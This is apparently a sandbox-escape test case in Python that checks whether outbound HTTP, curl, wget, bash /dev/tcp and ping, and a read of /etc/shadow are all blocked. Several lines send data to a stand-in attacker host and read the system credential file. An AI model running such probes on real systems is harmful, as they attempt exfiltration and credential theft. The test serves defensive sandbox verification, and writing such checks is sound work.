"""Carries data out over HTTP: by Python, by programs, by data set downloads, by package installation."""

CLASS = "resources and escape"
EXPECT = "no points"
SEEN = ["request: URLError", "programs that got out: 0"]
BASE = "release"

# %% [append]
import subprocess
import sys
import urllib.request

for address in ("http://attacker.example/?data=1", "https://93.184.215.14/", "http://[::1]:80/", "file:///etc/shadow"):
    try:
        print("request:", urllib.request.urlopen(address, timeout=1).status)
    except Exception as problem:
        print("request:", type(problem).__name__)
out = 0
for command in (
    ["curl", "-m1", "http://1.1.1.1"],
    ["wget", "-T1", "http://1.1.1.1"],
    ["bash", "-c", "echo x > /dev/tcp/1.1.1.1/80"],
    ["ping", "-c1", "-W1", "1.1.1.1"],
):
    try:
        out += subprocess.run(command, capture_output=True, timeout=1).returncode == 0
    except (OSError, subprocess.TimeoutExpired) as problem:
        print(command[0], type(problem).__name__)
print("programs that got out:", out)
